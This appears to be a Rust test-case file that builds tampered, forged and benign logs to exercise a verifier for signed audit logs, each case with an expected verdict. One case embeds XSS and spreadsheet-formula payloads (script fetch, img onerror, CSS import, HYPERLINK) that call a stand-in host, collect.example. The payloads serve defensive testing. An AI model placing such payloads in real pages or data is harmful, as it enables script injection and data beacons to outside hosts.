//! Cases for attacks of `THREATS.md` on entries, checkpoints and proofs, and for what happens innocently.

use crate::made::{Made, ORIGIN, six, six_with};
use sha2::{Digest, Sha256};
use unbroken_tests::build::{self, ENTRY_DOMAIN, Key, Log, Say, base64};
use unbroken_tests::naive;

/// Length of the signature at the end of a line.
const SUFFIX: usize = 98;

const FORGED: &str = "entries-uncovered, signature-invalid";

/// The table `[expect]`; runs and codes stand in one text each, with commas.
fn expect(verdict: &str, reason: &str, coverage: &str, findings: &str) -> &'static str {
    let list =
        |words: &str| words.split(", ").filter(|word| !word.is_empty()).map(|word| format!("\"{word}\"")).collect::<Vec<_>>().join(", ");
    let (coverage, findings) = (list(coverage), list(findings));
    format!("verdict = \"{verdict}\"\nreason = \"{reason}\"\ncoverage = [{coverage}]\nfindings = [{findings}]").leak()
}

fn intact(findings: &str) -> &'static str {
    expect("proven", "intact", "proven 0..6", findings)
}

/// What entry `seq` of a usual log says.
fn said(seq: usize) -> Say {
    let log = Log { lines: vec![Vec::new(); seq], ..Log::new(ORIGIN) };
    if seq == 0 { log.opening(ENTRY_DOMAIN) } else { log.usual() }
}

/// A log made without a key from the genuine one: each line says what it is told, names the line before it, and carries the signature of a
/// genuine line.
fn resealed(says: &[(Say, usize)]) -> Log {
    let genuine = six();
    let mut log = Log::new(ORIGIN);
    for (say, signature) in says {
        let old = &genuine.lines[*signature];
        let line = [log.prefix(say).as_bytes(), &old[old.len() - SUFFIX..]].concat();
        log.lines.push(line);
    }
    log
}

/// A log whose entries nobody signed.
fn unsigned(says: &[Say]) -> Log {
    let mut log = Log::new(ORIGIN);
    says.iter().for_each(|say| log.append_unsigned(say));
    log
}

/// A key under the name of another.
fn named(mut key: Key, name: &str) -> Key {
    key.name = name.into();
    key
}

/// A log under the names of the genuine one, all keys of its own.
fn attackers() -> Log {
    let mut log = Log::new(ORIGIN);
    log.key = named(Key::log("attacker"), ORIGIN);
    log.writer = named(Key::writer("attacker"), &log.writer.name);
    log.witnesses = log.witnesses.iter().map(|witness| named(Key::witness(&format!("{}/attacker", witness.name)), &witness.name)).collect();
    log.append(&log.opening(ENTRY_DOMAIN));
    while log.lines.len() < 6 {
        log.append(&log.usual());
    }
    log
}

fn rewritten(seq: usize) -> Say {
    Say { body: r#""event":{"action":"record.read","actor":"mallory"}"#.into(), ..said(seq) }
}

/// Lines without any checkpoint.
fn bare(name: &'static str, why: &'static str, log: Log, asked: &'static str, expect: &'static str) -> Made {
    Made { lines: log.lines.clone(), asked: Some(asked), ..Made::of(name, why, log, expect) }
}

/// Its cases.
pub fn cases() -> Vec<Made> {
    [rewrites(), positions(), anchors(), proofs(), contents(), innocent()].into_iter().flatten().collect()
}

/// Entries rewritten with and without keys (rows 2 to 4, 7, 12, 63).
fn rewrites() -> Vec<Made> {
    let mut last = six();
    let line = last.lines[5].clone();
    last.lines[5] = String::from_utf8_lossy(&line).replacen("\"n\":5", "\"n\":9", 1).into_bytes();
    let gone = |seqs: &[usize]| seqs.iter().map(|seq| said(*seq)).collect::<Vec<_>>();
    let renumbered: Vec<(Say, usize)> = [0, 1, 3, 4, 5].iter().map(|seq| (said(*seq), *seq)).collect();
    let mut inserted: Vec<(Say, usize)> = (0..6).map(|seq| (said(seq), seq)).collect();
    inserted.insert(3, (Say { id: "inserted".into(), ..rewritten(3) }, 3));
    let from_three = |seq: usize| (if seq < 3 { said(seq) } else { rewritten(seq) }, seq);
    // Entry 4 is gone and entry 5 took its number; the tree still holds both.
    let covered = resealed(&[0, 1, 2, 3, 5].map(|seq| (said(seq), seq)));
    let mut shrunk = Log::new(ORIGIN);
    [0, 1, 3, 4, 5].iter().for_each(|seq| shrunk.append(&said(*seq)));
    vec![
        Made {
            threats: &[2],
            ..bare(
                "altered-last-unanchored",
                "the last entry edited, no checkpoint: nothing but its own signature speaks of it",
                last,
                "0..6",
                expect("broken", "forged", "uncovered 0..5, forged 5..6", FORGED),
            )
        },
        Made {
            threats: &[3],
            ..bare(
                "rewritten-without-key",
                "entries from 3 on rewritten and linked again, the signatures are the old ones",
                resealed(&(0..6).map(from_three).collect::<Vec<_>>()),
                "0..6",
                expect("broken", "forged", "uncovered 0..3, forged 3..6", FORGED),
            )
        },
        // Undetectable: nothing that the reader trusts speaks of these lines.
        Made {
            threats: &[3],
            ..bare(
                "rewritten-unsigned",
                "an unsigned log without a checkpoint, every entry rewritten and linked again",
                unsigned(&(0..6).map(rewritten).collect::<Vec<_>>()),
                "0..6",
                expect("unproven", "self-consistent", "uncovered 0..6", "entries-uncovered"),
            )
        },
        Made {
            policy: Some(six().policy(2)),
            writers: Some(six().writers()),
            threats: &[4],
            ..Made::of(
                "resigned-by-attacker",
                "everything made anew under the same names with other keys: entries, checkpoint and cosignatures",
                attackers(),
                expect("unproven", "self-consistent", "committed 0..6", "checkpoint-key-unknown, signer-unpinned, trust-too-low"),
            )
        },
        Made {
            threats: &[7],
            ..bare(
                "deleted-and-relinked",
                "entry 2 deleted, the others numbered and linked again, the signatures are the old ones",
                resealed(&renumbered),
                "0..5",
                expect("broken", "forged", "uncovered 0..2, forged 2..5", FORGED),
            )
        },
        // Undetectable, as above.
        Made {
            threats: &[7],
            ..bare(
                "deleted-and-relinked-unsigned",
                "an unsigned log without a checkpoint, entry 2 deleted and the others linked again",
                unsigned(&gone(&[0, 1, 3, 4, 5])),
                "0..5",
                expect("unproven", "self-consistent", "uncovered 0..5", "entries-uncovered"),
            )
        },
        // The proof of entry 5 holds the leaf hash of entry 4 and the hash of [0, 4).
        Made {
            lines: [vec![six().proof_record(5, 6)], covered.lines.clone()].concat(),
            threats: &[7],
            ..Made::of(
                "deleted-and-relinked-under-checkpoint",
                "entry 4 deleted and entry 5 made entry 4; the checkpoint is the genuine one",
                covered,
                expect("broken", "tampered", "proven 0..4, altered 4..5, missing 5..6", "entries-missing, entry-altered"),
            )
        },
        Made {
            threats: &[12],
            ..bare(
                "inserted-and-renumbered",
                "an entry inserted at 3, those behind it numbered and linked again, the signatures are old ones",
                resealed(&inserted),
                "0..7",
                expect("broken", "forged", "uncovered 0..3, forged 3..7", FORGED),
            )
        },
        // Nobody can show which of the two histories of size 5 is the true one, and both are signed by the log.
        Made {
            policy: Some(shrunk.policy(0)),
            pins: vec![six().checkpoint(5)],
            asked: Some("0..5"),
            threats: &[5, 63],
            ..Made::of(
                "shrunk-and-resealed",
                "the operator dropped entry 2 and sealed the rest with the real keys; a checkpoint of the true history is kept",
                shrunk,
                expect("broken", "forked", "disputed 0..5", "split-view"),
            )
        },
    ]
}

/// Lines that changed places, and no lines at all (rows 11 and 14).
fn positions() -> Vec<Made> {
    let mut exchanged = six();
    let with = |line: &[u8], from: usize, to: usize| {
        String::from_utf8_lossy(line).replacen(&format!("\"seq\":{from}"), &format!("\"seq\":{to}"), 1).into_bytes()
    };
    let (two, three) = (with(&exchanged.lines[3], 3, 2), with(&exchanged.lines[2], 2, 3));
    exchanged.lines.splice(2..4, [two, three]);
    vec![
        // The proof of entry 3 holds the leaf hash of entry 2 and the hash of [0, 2).
        Made {
            lines: [vec![six().proof_record(5, 6), six().proof_record(3, 6)], exchanged.lines.clone()].concat(),
            threats: &[14],
            ..Made::of(
                "positions-exchanged",
                "entries 2 and 3 carry each other's number",
                exchanged,
                expect("broken", "tampered", "proven 0..2, altered 2..4, proven 4..6", "entry-altered"),
            )
        },
        Made {
            lines: vec![Vec::new(), b" \t".to_vec(), b"\r".to_vec()],
            threats: &[11],
            ..Made::of("blank-lines", "nothing but blank lines", six(), expect("unproven", "unreadable", "", "line-unreadable"))
        },
    ]
}

/// What stands beside the entries and speaks for nobody (rows 25, 26, 34, 55, 64).
fn anchors() -> Vec<Made> {
    let attackers = attackers();
    let their_policy = attackers.policy(2);
    // The name of the log with other keys, and strangers, as many as a note must be read with.
    let strangers = (0..12).map(|k| Key::log(&format!("stranger.example/{k}")));
    let namesakes = (0..2).map(|k| named(Key::log(&format!("namesake {k}")), ORIGIN));
    let crowded = strangers.chain(namesakes).fold(six().witnessed(6), |note, key| key.sign_note(&note));
    let crowded = build::proof_record(&naive::leaf(&six().lines[5]), &six().proof(5, 6, None, &crowded));
    let mut altered = six();
    altered.lines[3] = String::from_utf8_lossy(&altered.lines[3]).replacen("\"n\":3", "\"n\":4", 1).into_bytes();
    let claim = br#"{"checked":true,"intact":true,"root":"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=","verdict":"proven"}"#.to_vec();
    let pending = br#"{"ots":"AE9wZW5UaW1lc3RhbXBz","status":"pending"}"#.to_vec();
    vec![
        Made {
            policy: None,
            writers: None,
            beside: vec![("their-policy.txt", their_policy.into_bytes()), ("their-writers.txt", attackers.writers().into_bytes())],
            threats: &[25],
            ..Made::of(
                "policy-among-the-evidence",
                "a whole log and beside it the policy and the writers file that would prove it; the reader trusts nobody",
                attackers,
                expect("unproven", "self-consistent", "committed 0..6", "nothing-pinned, signer-unpinned, trust-too-low"),
            )
        },
        Made {
            lines: [vec![crowded], six().lines].concat(),
            threats: &[26],
            ..Made::of(
                "note-with-unknown-signatures",
                "beside the genuine signatures the note carries two by other keys of the same name and twelve of strangers",
                six(),
                intact(""),
            )
        },
        Made {
            writers: Some(format!("{}{}\n", six().writers(), small_order())),
            threats: &[34],
            ..Made::of(
                "refused-weak-writer-key",
                "the writers file lists a key of small order, under which signatures fit many messages",
                six(),
                expect("refused", "trust-input", "", ""),
            )
        },
        Made {
            lines: [vec![claim, six().proof_record(5, 6)], altered.lines.clone()].concat(),
            threats: &[55],
            ..Made::of(
                "self-declared-verdict",
                "entry 3 is edited, and a line of the file says that it was checked and is intact",
                altered,
                expect("broken", "tampered", "proven 0..3, altered 3..4, proven 4..6", "data-uncovered, entry-altered"),
            )
        },
        Made {
            lines: [vec![pending], six().lines].concat(),
            threats: &[64],
            ..Made::of(
                "anchor-not-checked",
                "entries without a checkpoint, and a pending timestamp of a kind that is not read",
                six(),
                expect("unproven", "unanchored", "uncovered 0..6", "data-uncovered, entries-uncovered"),
            )
        },
    ]
}

/// The vkey of the neutral element as a writer.
fn small_order() -> String {
    let (name, mut point) = ("acme.example/audit/weak", [0; 32]);
    point[0] = 1;
    let body = [&[0xff], ENTRY_DOMAIN.as_bytes(), &point].concat();
    let id = Sha256::digest([name.as_bytes(), b"\n", &body].concat());
    format!("{name}+{:02x}{:02x}{:02x}{:02x}+{}", id[0], id[1], id[2], id[3], base64(&body))
}

/// Proofs of something else (rows 21 and 23).
fn proofs() -> Vec<Made> {
    let proof = |index: &str| {
        let proof = String::from_utf8_lossy(&six().proof_record(5, 6)).replacen("index 5", index, 1);
        proof.into_bytes()
    };
    let other = six_with(2, |log| Say { id: "another".into(), ..log.usual() });
    let receipt = six().proof(2, 6, None, &six().witnessed(6)).into_bytes();
    vec![
        // No path is as long as a position behind the end would need.
        Made {
            threats: &[21],
            ..Made::with(
                "proof-index-beyond-size",
                "a proof for entry 6 of a tree of six",
                proof("index 6"),
                intact("checkpoint-malformed"),
            )
        },
        Made {
            threats: &[21],
            ..Made::with("proof-index-negative", "a proof for entry -1", proof("index -1"), intact("checkpoint-malformed"))
        },
        Made {
            lines: Vec::new(),
            beside: vec![("receipt.tlog-proof", receipt), ("entry.json", other.lines[2].clone())],
            asked: None,
            threats: &[23],
            ..Made::of(
                "receipt-beside-other-entry",
                "a genuine receipt of entry 2, and beside it an entry 2 that the same writer signed and the log does not hold",
                six(),
                expect("broken", "tampered", "suspect 2..3", "entry-not-bound"),
            )
        },
    ]
}

/// Content that would like to act (rows 47 and 60). Every face reads it; the page must neither run it nor ask for it.
fn contents() -> Vec<Made> {
    let body = concat!(
        r#""event":{"action":"<img src=https://collect.example/a.png onerror=alert(1)>","#,
        r#""actor":"</textarea></script><script>fetch('https://collect.example/')</script>","#,
        r#""link":"javascript:alert(1)","style":"<style>@import url(https://collect.example/s.css)</style>","#,
        r#""target":"=HYPERLINK('https://collect.example/','open')"}"#
    );
    vec![Made {
        threats: &[47, 60],
        ..Made::of(
            "markup-in-an-entry",
            "entry 3 holds markup, addresses, a script and a formula, and the log committed to them",
            six_with(3, |log| Say { body: body.into(), ..log.usual() }),
            intact(""),
        )
    }]
}

/// What happens to every log one day.
fn innocent() -> Vec<Made> {
    let mut held = Log::of(ORIGIN, 6);
    held.append(&held.control("\"before\":4,", "prune"));
    held.append(&held.usual());
    let proofs = [7, 3, 2].map(|index| held.proof_record(index, 8)).to_vec();

    let second = Key::writer("acme.example/audit/writer-2");
    let rotate = |announced: bool| {
        let mut log = Log::of(ORIGIN, 3);
        let add = Say { body: format!(r#""ctl":{{"type":"key-add","vkey":"{}"}}"#, second.vkey()), ..log.usual() };
        log.append(&if announced { add } else { log.usual() });
        let end = format!("\"from\":5,\"key\":\"{}\",\"reason\":\"retired\",", log.writer.label());
        log.append(&if announced { log.control(&end, "key-end") } else { log.usual() });
        log.writer = second.clone();
        log.append(&log.usual());
        log
    };
    let (announced, unannounced) = (rotate(true), rotate(false));
    let both = format!("{}{}\n", six().writers(), second.vkey());

    let (first, mut next) = (six(), Log::new("acme.example/audit-2"));
    let opening = next.opening(ENTRY_DOMAIN);
    let after = serde_json::Value::from(first.witnessed(6)).to_string();
    next.append(&Say { body: opening.body.replacen("\"ctl\":{", &format!("\"ctl\":{{\"after\":{after},"), 1), ..opening });
    while next.lines.len() < 4 {
        next.append(&next.usual());
    }
    let again = [first.bundle(), vec![first.lines[5].clone()]].concat();
    vec![
        // R4: the proof of entry 3 shows [0, 4). R1: what is present at a pruned position is judged as usual.
        Made {
            lines: [proofs, vec![held.lines[2].clone()], held.lines[4..].to_vec()].concat(),
            asked: Some("0..8"),
            threats: &[39],
            innocent: "legal-hold",
            ..Made::of(
                "one-entry-held-behind-a-prune",
                "entries below 4 were pruned on record, and entry 2 was kept because a court asked for it",
                held,
                expect("proven", "intact", "pruned 0..2, proven 2..3, pruned 3..4, proven 4..8", "log-pruned"),
            )
        },
        Made {
            writers: Some(both),
            threats: &[28],
            innocent: "rotation",
            ..Made::of(
                "writer-key-replaced",
                "the log introduces a second writer key, retires the first from 5 on, and entry 5 is signed with the second",
                announced,
                intact(""),
            )
        },
        Made {
            writers: Some(six().writers()),
            threats: &[28],
            innocent: "rotation",
            ..Made::of(
                "writer-key-replaced-unpinned",
                "entry 5 is signed with a new writer key that the reader has not pinned yet",
                unannounced,
                intact("signer-unpinned"),
            )
        },
        Made {
            lines: [first.bundle(), next.bundle()].concat(),
            policy: Some(format!("log {}\n{}", next.key.vkey(), first.policy(2))),
            writers: Some(first.writers() + &next.writers()),
            asked: None,
            threats: &[62],
            innocent: "restart",
            ..Made::of(
                "restarted-as-a-new-log",
                "storage was restored, and the writer went on in a new log that names the last checkpoint of the old one",
                first.clone(),
                "verdict = \"proven\"
                 reason = \"intact\"
                 coverage = [\"proven 0..6\"]
                 findings = []

                 [expect.logs.\"acme.example/audit-2\"]
                 verdict = \"proven\"
                 reason = \"intact\"
                 coverage = [\"proven 0..4\"]
                 findings = []",
            )
        },
        Made {
            lines: again,
            threats: &[15],
            innocent: "restart",
            ..Made::of(
                "last-line-written-again",
                "the writer stopped before it noted how far it was, and wrote the last line again",
                first,
                intact("line-repeated"),
            )
        },
    ]
}
